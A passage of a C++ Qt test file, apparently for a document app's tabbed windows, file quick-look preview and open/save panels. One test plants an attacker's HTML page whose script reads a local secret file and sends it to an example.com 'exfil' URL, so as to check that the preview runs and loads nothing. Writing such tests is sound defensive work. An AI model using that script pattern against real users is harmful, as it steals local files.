// Windows grouped as tabs of one window (its place, tab order, leaving the
// group when closed; titles, close buttons that ask, focus and commands of
// the selected tab, switching, dragging, moving out and merging, opening as a
// tab of the front window), the quick look at files (each kind in its viewer, and
// files that must not be read, or cannot be shown, described instead), and
// the open panel that takes a folder as well as a file, and the save panel
// that names the file it writes.
#include <gtest/gtest.h>

#include <QAbstractButton>
#include <QApplication>
#include <QCloseEvent>
#include <QComboBox>
#include <QDir>
#include <QFile>
#include <QFileDialog>
#include <QImage>
#include <QLabel>
#include <QLineEdit>
#include <QMouseEvent>
#include <QMainWindow>
#include <QPlainTextEdit>
#include <QPointer>
#include <QTabBar>
#include <QVBoxLayout>
#include <QTemporaryDir>
#include <QTextBrowser>
#include <QTimer>

#include <memory>

#include <sys/stat.h>

#include "platform/runtime/action_router.h"
#include "platform/runtime/alerts.h"
#include "platform/documents/file_panels.h"
#include "platform/files/quick_preview.h"
#include "platform/documents/type_registry.h"
#include "platform/documents/document.h"
#include "platform/documents/window_controller.h"
#include "platform/documents/window_tabs.h"
#include "platform/files/workspace.h"
#include "support/qt_print.h"
#include "support/qt_wait.h"

using platform::QuickPreview;
using platform::WindowTabs;

namespace {

void write(const QString &path, const QByteArray &bytes) {
    QDir().mkpath(QFileInfo(path).path());
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(bytes);
}

std::unique_ptr<QMainWindow> shownWindow(QRect frame) {
    auto window = std::make_unique<QMainWindow>();
    window->setGeometry(frame);
    window->show();
    testing_qt::spinUntil([&] { return window->isVisible(); }, std::chrono::milliseconds(500));
    return window;
}

TEST(WindowTabs, ATabTakesItsGroupsPlaceAndOrderAndLeavesWhenClosed) {
    auto project = shownWindow({100, 120, 640, 480});
    const QRect projectFrame = project->geometry();
    auto first = std::make_unique<QMainWindow>(), second = std::make_unique<QMainWindow>();
    first->setGeometry(0, 0, 300, 200);

    // One window on the screen, at the project's place, holds both as tabs,
    // the new one in front.
    WindowTabs::addTabbedWindow(project.get(), first.get());
    QPointer<QWidget> group = project->window();
    ASSERT_TRUE(WindowTabs::isGroupWindow(group));
    EXPECT_EQ(first->window(), group);
    EXPECT_TRUE(group->isVisible());
    EXPECT_EQ(group->geometry(), projectFrame);
    EXPECT_TRUE(first->isVisible());
    EXPECT_FALSE(project->isVisible());
    EXPECT_EQ(WindowTabs::selectedWindow(group), first.get());
    // A new tab goes right after the window it was added to.
    WindowTabs::addTabbedWindow(project.get(), second.get());
    EXPECT_EQ(WindowTabs::tabbedWindows(first.get()),
              QList<QWidget *>({project.get(), second.get(), first.get()}));
    EXPECT_EQ(WindowTabs::tabbedWindows(group), WindowTabs::tabbedWindows(first.get()));

    // A window added elsewhere leaves its old group, for the other's place.
    auto other = shownWindow({10, 10, 200, 150});
    const QRect otherFrame = other->geometry();
    WindowTabs::addTabbedWindow(other.get(), second.get());
    EXPECT_EQ(WindowTabs::tabbedWindows(project.get()), QList<QWidget *>({project.get(), first.get()}));
    EXPECT_EQ(second->window(), other->window());
    EXPECT_EQ(second->window()->geometry(), otherFrame);
    EXPECT_EQ(group->geometry(), projectFrame);

    // Closed or gone, a window is no longer a tab, but a window of its own,
    // off the screen; alone, a window is its own group.
    first->close();
    EXPECT_EQ(WindowTabs::tabbedWindows(project.get()), QList<QWidget *>({project.get()}));
    EXPECT_TRUE(first->isWindow());
    EXPECT_FALSE(first->isVisible());
    EXPECT_TRUE(project->isVisible());
    other.reset();
    EXPECT_EQ(WindowTabs::tabbedWindows(second.get()), QList<QWidget *>({second.get()}));
    EXPECT_TRUE(WindowTabs::tabbedWindows(nullptr).isEmpty());
    WindowTabs::addTabbedWindow(project.get(), project.get());
    WindowTabs::addTabbedWindow(nullptr, second.get());
    EXPECT_EQ(WindowTabs::tabbedWindows(project.get()), QList<QWidget *>({project.get()}));

    WindowTabs::setTabbingIdentifier(project.get(), QStringLiteral("OrvaneDoc"));
    WindowTabs::setTabbingMode(project.get(), WindowTabs::TabbingMode::Preferred);
    EXPECT_EQ(WindowTabs::tabbingIdentifier(project.get()), QStringLiteral("OrvaneDoc"));
    EXPECT_EQ(WindowTabs::tabbingMode(project.get()), WindowTabs::TabbingMode::Preferred);
    EXPECT_EQ(WindowTabs::tabbingMode(second.get()), WindowTabs::TabbingMode::Automatic);
    // A group window has its selected tab's.
    EXPECT_EQ(WindowTabs::tabbingIdentifier(group), QStringLiteral("OrvaneDoc"));

    // The last tab gone, its group window goes too.
    project.reset();
    second.reset();
    EXPECT_TRUE(testing_qt::spinUntil([&] { return group.isNull(); }, std::chrono::milliseconds(500)));
}

// A window that asks before it closes, as a document's does.
class AskingWindow : public QMainWindow, public platform::Responder {
public:
    explicit AskingWindow(const QString &title) {
        setWindowTitle(title + QStringLiteral("[*]"));
        auto *content = new QWidget;
        auto *layout = new QVBoxLayout(content);
        for (QLineEdit *&field : fields) {
            field = new QLineEdit;
            layout->addWidget(field);
        }
        setCentralWidget(content);
    }
    bool refuse = false;
    int asked = 0;
    QLineEdit *fields[2] = {};

    bool respondsToAction(const QString &action) const override { return action == QLatin1String("ownCommand:"); }
    void performAction(const QString &, QObject *) override {}

protected:
    void closeEvent(QCloseEvent *event) override {
        asked++;
        event->setAccepted(!refuse);
    }
};

QAbstractButton *closeButton(QTabBar *bar, int index) {
    return qobject_cast<QAbstractButton *>(bar->tabButton(index, QTabBar::RightSide));
}

bool isActive(QWidget *window) {
    return testing_qt::spinUntil([&] { return QApplication::activeWindow() == window; },
                                 std::chrono::milliseconds(1000));
}

TEST(WindowTabs, TheTabsFollowTheirWindowsAndAskThemBeforeTheyClose) {
    auto *a = new AskingWindow(QStringLiteral("a.md")), *b = new AskingWindow(QStringLiteral("b.md"));
    a->setGeometry(50, 60, 500, 400);
    a->show();
    WindowTabs::addTabbedWindow(a, b);
    QPointer<QWidget> group = a->window();
    QTabBar *bar = WindowTabs::tabBar(a);
    ASSERT_TRUE(bar);
    EXPECT_EQ(WindowTabs::tabBar(group), bar);
    EXPECT_TRUE(bar->isVisible());
    ASSERT_EQ(bar->count(), 2);

    // Titles and edited marks: each tab its window's, the group window its
    // selected tab's.
    b->setWindowModified(true);
    EXPECT_EQ(bar->tabText(0), QStringLiteral("a.md"));
    EXPECT_EQ(bar->tabText(1), QStringLiteral("b.md*"));
    EXPECT_EQ(group->windowTitle(), QStringLiteral("b.md[*]"));
    EXPECT_TRUE(group->isWindowModified());
    a->setWindowTitle(QStringLiteral("renamed.md[*]"));
    EXPECT_EQ(bar->tabText(0), QStringLiteral("renamed.md"));
    EXPECT_EQ(group->windowTitle(), QStringLiteral("b.md[*]"));
    WindowTabs::makeKeyAndOrderFront(a);
    EXPECT_EQ(group->windowTitle(), QStringLiteral("renamed.md[*]"));
    EXPECT_FALSE(group->isWindowModified());
    EXPECT_EQ(WindowTabs::displayedTitle(b), QStringLiteral("b.md*"));

    // A tab's close button asks its window, in front; a refusal keeps it.
    b->refuse = true;
    closeButton(bar, 1)->click();
    EXPECT_EQ(b->asked, 1);
    EXPECT_EQ(WindowTabs::tabbedWindows(a), QList<QWidget *>({a, b}));
    EXPECT_EQ(WindowTabs::selectedWindow(group), b);
    // Agreed, the tab goes; the bar with it, one tab left.
    WindowTabs::makeKeyAndOrderFront(a);
    b->refuse = false;
    closeButton(bar, 1)->click();
    EXPECT_EQ(b->asked, 2);
    EXPECT_EQ(WindowTabs::tabbedWindows(a), QList<QWidget *>({a}));
    EXPECT_EQ(WindowTabs::selectedWindow(group), a) << "closing another tab leaves the selected one in front";
    EXPECT_TRUE(b->isWindow());
    EXPECT_FALSE(b->isVisible());
    EXPECT_FALSE(bar->isVisible());
    EXPECT_EQ(a->window(), group);
    delete b;

    // Closing the group window asks each tab, the selected first, and stops
    // at the first that stays.
    auto *c = new AskingWindow(QStringLiteral("c.md"));
    WindowTabs::addTabbedWindow(a, c);
    a->refuse = true;
    EXPECT_FALSE(group->close());
    EXPECT_EQ(c->asked, 1);
    EXPECT_EQ(a->asked, 1);
    EXPECT_EQ(WindowTabs::tabbedWindows(a), QList<QWidget *>({a}));
    EXPECT_TRUE(group->isVisible());
    delete c;

    // The last tab closed closes the group window.
    a->refuse = false;
    EXPECT_TRUE(a->close());
    EXPECT_FALSE(group && group->isVisible());
    EXPECT_TRUE(testing_qt::spinUntil([&] { return group.isNull(); }, std::chrono::milliseconds(500)));
    delete a;
}

TEST(WindowTabs, ASelectedTabKeepsItsGroupsFrameAndGetsBackItsFocusAndItsCommands) {
    auto a = std::make_unique<AskingWindow>(QStringLiteral("a.md"));
    auto b = std::make_unique<AskingWindow>(QStringLiteral("b.md"));
    a->setGeometry(70, 80, 520, 380);
    WindowTabs::makeKeyAndOrderFront(a.get());
    ASSERT_TRUE(isActive(a.get()));
    a->fields[1]->setFocus();
    WindowTabs::addTabbedWindow(a.get(), b.get());
    QWidget *group = a->window();
    ASSERT_TRUE(isActive(group));
    const QRect frame = group->geometry();
    b->fields[1]->setFocus();
    EXPECT_TRUE(a->isHidden()) << "only the selected tab shows";

    for (int round = 0; round < 2; round++) {
        WindowTabs::makeKeyAndOrderFront(a.get());
        EXPECT_EQ(QApplication::focusWidget(), a->fields[1]);
        EXPECT_EQ(group->geometry(), frame);
        EXPECT_TRUE(b->isHidden());
        WindowTabs::makeKeyAndOrderFront(b.get());
        EXPECT_EQ(QApplication::focusWidget(), b->fields[1]);
        EXPECT_EQ(group->geometry(), frame);
    }

    // With nothing focused in it, the group window's commands go to its
    // selected tab.
    EXPECT_EQ(WindowTabs::keyWindow(), b.get());
    QApplication::focusWidget()->clearFocus();
    ASSERT_EQ(QApplication::focusWidget(), nullptr);
    EXPECT_EQ(platform::ActionRouter::targetForAction(QStringLiteral("ownCommand:")),
              static_cast<platform::Responder *>(b.get()));
    // And so do the tab commands, sent from the tab or the group window.
    EXPECT_TRUE(platform::ActionRouter::sendAction(QStringLiteral("selectNextTab:"), nullptr, group));
    EXPECT_EQ(WindowTabs::keyWindow(), a.get());
    a.reset();
    b.reset();
    testing_qt::spinFor(std::chrono::milliseconds(20));
}

TEST(WindowTabs, TabsAreSwitchedDraggedMovedToANewWindowAndMerged) {
    std::unique_ptr<QMainWindow> windows[5];
    const char *names[5] = {"a", "b", "c", "x", "y"};
    for (int i = 0; i < 5; i++) {
        windows[i] = std::make_unique<QMainWindow>();
        windows[i]->setWindowTitle(QString::fromLatin1(names[i]));
        WindowTabs::setTabbingIdentifier(windows[i].get(), QString::fromLatin1(i == 4 ? "Other" : "Doc"));
    }
    QWidget *a = windows[0].get(), *b = windows[1].get(), *c = windows[2].get(), *x = windows[3].get(),
            *y = windows[4].get();
    a->setGeometry(100, 100, 600, 400);
    WindowTabs::makeKeyAndOrderFront(a);
    WindowTabs::addTabbedWindow(a, b);
    WindowTabs::addTabbedWindow(b, c);
    QWidget *group = a->window();
    EXPECT_EQ(WindowTabs::tabbedWindows(a), QList<QWidget *>({a, b, c}));
    EXPECT_EQ(WindowTabs::selectedWindow(group), c);

    // Next and previous go around the ends; first is the first.
    for (const char *action : {"selectNextTab:", "selectPreviousTab:", "gotoFirstTab:", "moveTabToNewWindow:"})
        EXPECT_TRUE(WindowTabs::validateTabAction(action, c)) << action;
    WindowTabs::selectNextTab(c);
    EXPECT_EQ(WindowTabs::selectedWindow(group), a);
    WindowTabs::selectPreviousTab(a);
    EXPECT_EQ(WindowTabs::selectedWindow(group), c);
    WindowTabs::performTabAction(QStringLiteral("selectPreviousTab:"), group);
    EXPECT_EQ(WindowTabs::selectedWindow(group), b);
    WindowTabs::selectFirstTab(b);
    EXPECT_EQ(WindowTabs::selectedWindow(group), a);

    // A tab dragged along the bar takes its new place in the group.
    QTabBar *bar = WindowTabs::tabBar(group);
    const auto mouse = [bar](QEvent::Type type, QPoint at, Qt::MouseButtons buttons) {
        QMouseEvent event(type, at, bar->mapToGlobal(at), Qt::LeftButton, buttons, Qt::NoModifier);
        QApplication::sendEvent(bar, &event);
    };
    const QPoint from = bar->tabRect(0).center(), to = bar->tabRect(2).center() + QPoint(10, 0);
    mouse(QEvent::MouseButtonPress, from, Qt::LeftButton);
    for (int step = 1; step <= 10; step++)
        mouse(QEvent::MouseMove, from + (to - from) * step / 10, Qt::LeftButton);
    mouse(QEvent::MouseButtonRelease, to, Qt::NoButton);
    EXPECT_TRUE(testing_qt::spinUntil(
        [&] {
            return WindowTabs::tabbedWindows(group) == QList<QWidget *>({b, c, a});
        },
        std::chrono::seconds(2)))
        << WindowTabs::tabbedWindows(group).size();
    EXPECT_EQ(bar->tabText(2), QStringLiteral("a"));

    // Moved to a window of its own: a step down and right from the group
    // window, on screen, of its size.
    const QPoint step(platform::WindowController::kCascadeStep, platform::WindowController::kCascadeStep);
    WindowTabs::moveTabToNewWindow(b);
    EXPECT_EQ(WindowTabs::tabbedWindows(group), QList<QWidget *>({c, a}));
    EXPECT_TRUE(b->isWindow());
    EXPECT_TRUE(b->isVisible());
    EXPECT_EQ(b->geometry().topLeft(), group->geometry().topLeft() + step);
    EXPECT_EQ(b->geometry().size(), group->geometry().size());
    // The next one moved out steps past it instead of covering it.
    WindowTabs::moveTabToNewWindow(a);
    EXPECT_TRUE(a->isWindow());
    EXPECT_EQ(a->geometry().topLeft(), group->geometry().topLeft() + step * 2);
    EXPECT_EQ(WindowTabs::tabbedWindows(group), QList<QWidget *>({c}));
    WindowTabs::addTabbedWindow(c, a);
    EXPECT_EQ(WindowTabs::tabbedWindows(group), QList<QWidget *>({c, a}));
    EXPECT_FALSE(WindowTabs::validateTabAction(QStringLiteral("moveTabToNewWindow:"), b));
    EXPECT_FALSE(WindowTabs::validateTabAction(QStringLiteral("selectNextTab:"), b));

    // Merged: every window of the same kind joins, the others stay.
    x->show();
    y->show();
    EXPECT_TRUE(WindowTabs::validateTabAction(QStringLiteral("mergeAllWindows:"), b));
    EXPECT_FALSE(WindowTabs::validateTabAction(QStringLiteral("mergeAllWindows:"), y));
    WindowTabs::mergeAllWindows(c);
    const QList<QWidget *> merged = WindowTabs::tabbedWindows(group);
    EXPECT_EQ(merged.mid(0, 2), QList<QWidget *>({c, a}));
    EXPECT_EQ(merged.size(), 4);
    EXPECT_TRUE(merged.contains(b) && merged.contains(x));
    EXPECT_EQ(b->window(), group);
    EXPECT_TRUE(y->isWindow());
    EXPECT_EQ(WindowTabs::selectedWindow(group), c) << "the window merged into stays in front";
    EXPECT_FALSE(WindowTabs::validateTabAction(QStringLiteral("mergeAllWindows:"), c));
    EXPECT_EQ(WindowTabs::windowsAndTabs().count(y), 1);
    EXPECT_TRUE(WindowTabs::windowsAndTabs().contains(b));
    for (auto &window : windows)
        window.reset();
    testing_qt::spinFor(std::chrono::milliseconds(20));
}

TEST(WindowTabs, AWindowThatPrefersTabsOpensAsATabOfTheFrontWindowOfItsKind) {
    const auto made = [](const char *identifier, WindowTabs::TabbingMode mode) {
        auto window = std::make_unique<QMainWindow>();
        WindowTabs::setTabbingIdentifier(window.get(), QString::fromLatin1(identifier));
        WindowTabs::setTabbingMode(window.get(), mode);
        return window;
    };
    using Mode = WindowTabs::TabbingMode;
    auto front = made("Doc", Mode::Preferred), joining = made("Doc", Mode::Preferred),
         second = made("Doc", Mode::Preferred), otherKind = made("Other", Mode::Preferred),
         automatic = made("Doc", Mode::Automatic);
    front->setGeometry(40, 40, 500, 300);
    WindowTabs::orderFront(front.get());
    EXPECT_TRUE(front->isWindow()) << "nothing to join: a window of its own";
    EXPECT_TRUE(front->isVisible());

    WindowTabs::orderFront(joining.get());
    EXPECT_EQ(WindowTabs::tabbedWindows(front.get()), QList<QWidget *>({front.get(), joining.get()}));
    // After the selected tab of the front group.
    WindowTabs::makeKeyAndOrderFront(front.get());
    WindowTabs::orderFront(second.get());
    EXPECT_EQ(WindowTabs::tabbedWindows(front.get()), QList<QWidget *>({front.get(), second.get(), joining.get()}));
    EXPECT_EQ(WindowTabs::selectedWindow(front->window()), second.get());

    // Another kind, or a window that does not ask for tabs: its own window.
    WindowTabs::orderFront(otherKind.get());
    EXPECT_TRUE(otherKind->isWindow());
    WindowTabs::orderFront(automatic.get());
    EXPECT_TRUE(automatic->isWindow());
    EXPECT_TRUE(automatic->isVisible());
    // A window on screen already only comes to the front.
    WindowTabs::orderFront(front.get());
    WindowTabs::orderFront(automatic.get());
    EXPECT_TRUE(automatic->isWindow());
    EXPECT_EQ(WindowTabs::tabbedWindows(front.get()).size(), 3);
    // A front window of its kind that takes tabs (as one that asks for none
    // does) gets it; one that refuses them, or another kind in front, none.
    auto late = made("Doc", Mode::Preferred), refusing = made("Doc", Mode::Disallowed),
         later = made("Doc", Mode::Preferred), latest = made("Doc", Mode::Preferred);
    WindowTabs::orderFront(late.get());
    EXPECT_EQ(WindowTabs::tabbedWindows(late.get()), QList<QWidget *>({automatic.get(), late.get()}));
    WindowTabs::orderFront(refusing.get());
    WindowTabs::orderFront(later.get());
    EXPECT_TRUE(refusing->isWindow());
    EXPECT_TRUE(later->isWindow());
    WindowTabs::orderFront(otherKind.get());
    WindowTabs::orderFront(latest.get());
    EXPECT_TRUE(latest->isWindow());

    for (auto *window : {&front, &joining, &second, &otherKind, &automatic, &late, &refusing, &later, &latest})
        window->reset();
    testing_qt::spinFor(std::chrono::milliseconds(20));
}

class QuickPreviewTest : public ::testing::Test {
protected:
    QTemporaryDir dir;
    QuickPreview preview;

    void SetUp() override {
        preview.resize(400, 300);
        preview.show();
    }
    QString at(const QString &name) const { return dir.filePath(name); }
    QString picture(const QString &name, QSize size) {
        QImage image(size, QImage::Format_RGB32);
        image.fill(Qt::darkCyan);
        EXPECT_TRUE(image.save(at(name)));
        return at(name);
    }
};

TEST_F(QuickPreviewTest, EachKindOfFileShowsInItsOwnViewer) {
    write(at("notes.md"), "# Notes\n\nSome *text*.\n");
    write(at("page.html"), "<html><body><h1>Title</h1><p>A <a href=\"http://example.org\">link</a></p></body></html>");
    write(at("paper.pdf"), "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n");
    QDir().mkpath(at("folder"));
    struct Case {
        QString path;
        QuickPreview::Kind kind;
    };
    const Case cases[] = {
        {at("notes.md"), QuickPreview::Kind::Text},
        {at("page.html"), QuickPreview::Kind::Html},
        {picture("figure.png", {40, 30}), QuickPreview::Kind::Image},
        {at("paper.pdf"), QuickPreview::Kind::Facts},
        {at("folder"), QuickPreview::Kind::Facts},
        {at("gone.md"), QuickPreview::Kind::Facts},
        {QString(), QuickPreview::Kind::Nothing},
    };
    for (const Case &c : cases) {
        preview.setPreviewItem(c.path);
        EXPECT_EQ(preview.kind(), c.kind) << qPrintable(c.path);
        EXPECT_EQ(preview.previewItem(), c.path);
    }

    preview.setPreviewItem(at("notes.md"));
    EXPECT_EQ(preview.textView()->toPlainText(), QStringLiteral("# Notes\n\nSome *text*.\n"));
    EXPECT_TRUE(preview.textView()->isReadOnly());
    preview.setPreviewItem(at("page.html"));
    EXPECT_TRUE(preview.htmlView()->toPlainText().contains(QStringLiteral("Title")));
    EXPECT_FALSE(preview.htmlView()->openLinks());
    EXPECT_FALSE(preview.htmlView()->openExternalLinks());
    preview.setPreviewItem(at("figure.png"));
    EXPECT_EQ(preview.imageView()->pixmap().size(), QSize(40, 30));  // never enlarged

    // What the facts say: name, kind, size and date; a folder has no size.
    preview.setPreviewItem(at("paper.pdf"));
    const QStringList facts = QuickPreview::factsAbout(at("paper.pdf"));
    ASSERT_EQ(facts.size(), 4);
    EXPECT_EQ(facts[0], QStringLiteral("paper.pdf"));
    EXPECT_TRUE(facts[1].contains(QStringLiteral("PDF"))) << qPrintable(facts[1]);
    EXPECT_TRUE(facts[3].startsWith(QStringLiteral("Modified ")));
    EXPECT_TRUE(preview.factsView()->text().startsWith(QStringLiteral("<b>paper.pdf</b>")));
    EXPECT_EQ(QuickPreview::factsAbout(at("folder")).value(1), QStringLiteral("Folder"));
    EXPECT_EQ(QuickPreview::factsAbout(at("gone.md")),
              QStringList({"gone.md", "The file is no longer there."}));
}

TEST_F(QuickPreviewTest, FilesThatMustNotBeReadOrCannotBeShownAreDescribed) {
    // A pipe named like text would never end: it is described, not read.
    ASSERT_EQ(mkfifo(QFile::encodeName(at("pipe.md")).constData(), 0600), 0);
    preview.setPreviewItem(at("pipe.md"));
    EXPECT_EQ(preview.kind(), QuickPreview::Kind::Facts);

    // A picture that does not decode, and a name with markup in it.
    write(at("<i>broken.png"), "\x89PNG\r\n\x1a\nnot really");
    preview.setPreviewItem(at("<i>broken.png"));
    EXPECT_EQ(preview.kind(), QuickPreview::Kind::Facts);
    EXPECT_TRUE(preview.factsView()->text().startsWith(QStringLiteral("<b>&lt;i&gt;broken.png</b>")));

    // Long text: the first part only, marked as cut.
    QByteArray lines;
    while (lines.size() <= QuickPreview::kReadLimit)
        lines += "a line of text\n";
    write(at("long.txt"), lines);
    preview.setPreviewItem(at("long.txt"));
    const QString shown = preview.textView()->toPlainText();
    EXPECT_TRUE(shown.endsWith(QStringLiteral("\n…")));
    EXPECT_EQ(shown.size(), QuickPreview::kReadLimit + 2);

    // Text in UTF-16 with its mark reads as text.
    write(at("wide.txt"), QByteArray("\xff\xfe") + QByteArray("h\0i\0", 4));
    preview.setPreviewItem(at("wide.txt"));
    EXPECT_EQ(preview.textView()->toPlainText(), QStringLiteral("hi"));

    // A huge picture is decoded at a bounded size.
    preview.setPreviewItem(picture("wide.png", {QuickPreview::kLargestImageSide * 2, 20}));
    EXPECT_EQ(preview.kind(), QuickPreview::Kind::Image);
    EXPECT_LE(preview.imageView()->pixmap().width(), preview.imageView()->width());

    // A page that points at the pipe and at the web loads neither.
    write(at("page.html"), "<p>x</p><img src=\"pipe.md\"><img src=\"http://example.org/a.png\">");
    preview.setPreviewItem(at("page.html"));
    EXPECT_EQ(preview.kind(), QuickPreview::Kind::Html);
    EXPECT_TRUE(preview.htmlView()->toPlainText().startsWith(QStringLiteral("x")));
}

// The attacker's page in the project window's quick look: its script does
// not run, its frame shows no file, and neither its refresh nor a click on
// its link sends anything to the user's applications.
TEST_F(QuickPreviewTest, AnAttackersPageReadsNothingAndSendsNothingOut) {
    QList<QUrl> opened;
    platform::Workspace::setOpenerForTesting([&](const QUrl &url) {
        opened << url;
        return true;
    });
    write(at("secret.txt"), "TOPSECRET-42\n");
    const QString secret = QUrl::fromLocalFile(at("secret.txt")).toString(QUrl::FullyEncoded);
    write(at("page.html"), QStringLiteral(
        "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://example.com/refresh\">"
        "<link rel=\"stylesheet\" href=\"%1\"></head><body><p id=\"got\">nothing yet</p>"
        "<script>var x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();"
        "document.getElementById('got').textContent = x.responseText;"
        "top.location = 'https://example.com/exfil?d=' + encodeURIComponent(x.responseText);</script>"
        "<iframe src=\"%1\"></iframe><object data=\"%1\"></object><img src=\"%1\">"
        "<p><a href=\"https://example.com/clicked\">the site</a></p></body></html>").arg(secret).toUtf8());
    preview.setPreviewItem(at("page.html"));
    ASSERT_EQ(preview.kind(), QuickPreview::Kind::Html);
    QTextBrowser *view = preview.htmlView();
    EXPECT_TRUE(view->toPlainText().contains(QStringLiteral("nothing yet")));
    EXPECT_FALSE(view->toPlainText().contains(QStringLiteral("TOPSECRET")));

    // A click of the user's on the link: it lands on the link, and goes
    // nowhere.
    QUrl clicked;
    QObject::connect(view, &QTextBrowser::anchorClicked, [&](const QUrl &url) { clicked = url; });
    QTextCursor link = view->document()->find(QStringLiteral("the site"));
    ASSERT_FALSE(link.isNull());
    link.setPosition(link.selectionStart() + 2);
    const QPoint point = view->cursorRect(link).center();
    for (QEvent::Type type : {QEvent::MouseButtonPress, QEvent::MouseButtonRelease}) {
        QMouseEvent event(type, point, view->viewport()->mapToGlobal(point), Qt::LeftButton,
                          type == QEvent::MouseButtonPress ? Qt::LeftButton : Qt::NoButton, Qt::NoModifier);
        QApplication::sendEvent(view->viewport(), &event);
    }
    testing_qt::spinFor(std::chrono::milliseconds(200));
    platform::Workspace::setOpenerForTesting({});
    EXPECT_EQ(clicked, QUrl("https://example.com/clicked"));
    EXPECT_TRUE(opened.isEmpty());
    EXPECT_EQ(preview.previewItem(), at("page.html"));
    EXPECT_TRUE(view->toPlainText().contains(QStringLiteral("the site")));
}

TEST(OpenPanel, AFolderCanBeTheAnswerWhenFoldersMayBeChosen) {
    QTemporaryDir dir;
    QDir().mkpath(dir.filePath(QStringLiteral("project")));
    write(dir.filePath(QStringLiteral("note.md")), "x");
    // The panel as the user answers it: a name typed, then Open.
    auto answer = [&](const QString &name) {
        QTimer::singleShot(50, [name] {
            auto *dialog = qobject_cast<QFileDialog *>(QApplication::activeModalWidget());
            auto *field = dialog ? dialog->findChild<QLineEdit *>(QStringLiteral("fileNameEdit")) : nullptr;
            if (!field) {
                ADD_FAILURE() << "no panel";
                if (auto *modal = QApplication::activeModalWidget())
                    modal->close();
                return;
            }
            field->setText(name);
            QMetaObject::invokeMethod(dialog, "accept");  // the Open button
            // A panel that went into the folder instead is still open: it fails.
            QTimer::singleShot(2000, [still = QPointer<QFileDialog>(dialog)] {
                if (still)
                    still->reject();
            });
        });
    };
    platform::OpenPanel panel;
    panel.directory = dir.path();
    panel.canChooseDirectories = true;
    answer(QStringLiteral("project"));
    EXPECT_EQ(platform::FilePanels::runOpenPanel(panel), QStringList({dir.filePath(QStringLiteral("project"))}));
    answer(QStringLiteral("note.md"));
    EXPECT_EQ(platform::FilePanels::runOpenPanel(panel), QStringList({dir.filePath(QStringLiteral("note.md"))}));
}

// A name typed into the panel: an extension of an offered type chooses that
// type; any other name is saved in the type chosen, its extension added,
// unless a text type may be saved under any extension.
TEST(SavePanel, ANameTypedIsSavedInTheOfferedTypeItsExtensionNames) {
    namespace types = platform::types;
    platform::SavePanel exporting;
    exporting.types = {types::kMarkdownType, types::kHtml, types::kTex, types::kOdt, types::kEpub};
    // As a Markdown document exports: its own extension or any offered.
    exporting.allowedExtensions = {QStringLiteral("txt")};
    for (const QString &type : exporting.types)
        exporting.allowedExtensions += platform::TypeRegistry::extensions(type);
    exporting.allowsOtherFileTypes = true;
    platform::SavePanel pdf;
    pdf.types = {QStringLiteral("com.adobe.pdf")};
    pdf.allowedExtensions = {QStringLiteral("pdf")};
    struct Case {
        const platform::SavePanel &panel;
        const char *chosen, *typed, *path, *type;
    };
    const Case cases[] = {
        {exporting, types::kTex, "/d/notes.odt", "/d/notes.odt", types::kOdt},
        {exporting, types::kTex, "/d/notes.ODT", "/d/notes.ODT", types::kOdt},
        {exporting, types::kTex, "/d/notes.tex", "/d/notes.tex", types::kTex},
        {exporting, types::kTex, "/d/notes.ltx", "/d/notes.ltx", types::kTex},
        {exporting, types::kHtml, "/d/notes.md", "/d/notes.md", types::kMarkdownType},
        {exporting, types::kMarkdownType, "/d/notes.html", "/d/notes.html", types::kHtml},
        {exporting, types::kEpub, "/d/notes.htm", "/d/notes.htm", types::kHtml},
        // The text type's own extension, which no offered type names.
        {exporting, types::kTex, "/d/notes.txt", "/d/notes.txt", types::kMarkdownType},
        {exporting, types::kMarkdownType, "/d/notes.txt", "/d/notes.txt", types::kMarkdownType},
        // No format's extension: the chosen format's is added, except to a
        // text type's name.
        {exporting, types::kTex, "/d/notes", "/d/notes.tex", types::kTex},
        {exporting, types::kTex, "/d/Release 1.2", "/d/Release 1.2.tex", types::kTex},
        {exporting, types::kOdt, "/d/notes.v2", "/d/notes.v2.odt", types::kOdt},
        {exporting, types::kMarkdownType, "/d/notes.v2", "/d/notes.v2", types::kMarkdownType},
        {pdf, "com.adobe.pdf", "/d/notes.md", "/d/notes.md.pdf", "com.adobe.pdf"},
        {pdf, "com.adobe.pdf", "/d/notes.PDF", "/d/notes.PDF", "com.adobe.pdf"},
    };
    for (const Case &c : cases) {
        platform::SavePanel panel = c.panel;
        panel.chosenType = QLatin1String(c.chosen);
        const platform::FilePanels::TypedFile file = platform::FilePanels::fileForTypedName(c.typed, panel);
        EXPECT_EQ(file.path, c.path) << c.chosen << ", " << c.typed;
        EXPECT_EQ(file.type, c.type) << c.chosen << ", " << c.typed;
    }
}

// The save panel as the user works it: what its name field shows as types
// are picked, and Save pressed with the name in the field.
TEST(SavePanel, TheNameCarriesTheChosenTypesExtensionAndOnlyTheFileWrittenIsAskedAbout) {
    namespace types = platform::types;
    QTemporaryDir dir;
    write(dir.filePath(QStringLiteral("renamed.md")), "the document");
    const auto panelFor = [&] {
        platform::SavePanel panel;
        panel.directory = dir.path();
        panel.types = {types::kHtml, types::kTex, types::kMarkdownType};
        // As a Markdown document exports: its own extension or any offered.
        panel.allowedExtensions = {QStringLiteral("md")};
        for (const QString &type : panel.types)
            panel.allowedExtensions += platform::TypeRegistry::extensions(type);
        panel.allowsOtherFileTypes = true;
        panel.nameFieldStringValue = QStringLiteral("renamed.md");
        return panel;
    };
    QStringList shown;  // the name field, step by step
    const auto work = [&](std::function<void(QFileDialog *, QLineEdit *, QComboBox *)> steps) {
        QTimer::singleShot(50, [&shown, steps] {
            auto *dialog = qobject_cast<QFileDialog *>(QApplication::activeModalWidget());
            auto *field = dialog ? dialog->findChild<QLineEdit *>(QStringLiteral("fileNameEdit")) : nullptr;
            auto *kinds = dialog ? dialog->findChild<QComboBox *>(QStringLiteral("fileTypeCombo")) : nullptr;
            if (!field || !kinds) {
                ADD_FAILURE() << "no panel";
                if (auto *modal = QApplication::activeModalWidget())
                    modal->close();
                return;
            }
            shown << field->text();
            steps(dialog, field, kinds);
            QTimer::singleShot(2000, [still = QPointer<QFileDialog>(dialog)] {
                if (still)
                    still->reject();
            });
        });
    };
    // The user picks a type from the list.
    const auto pick = [&shown](QComboBox *kinds, QLineEdit *field, int index) {
        kinds->setCurrentIndex(index);
        emit kinds->activated(index);
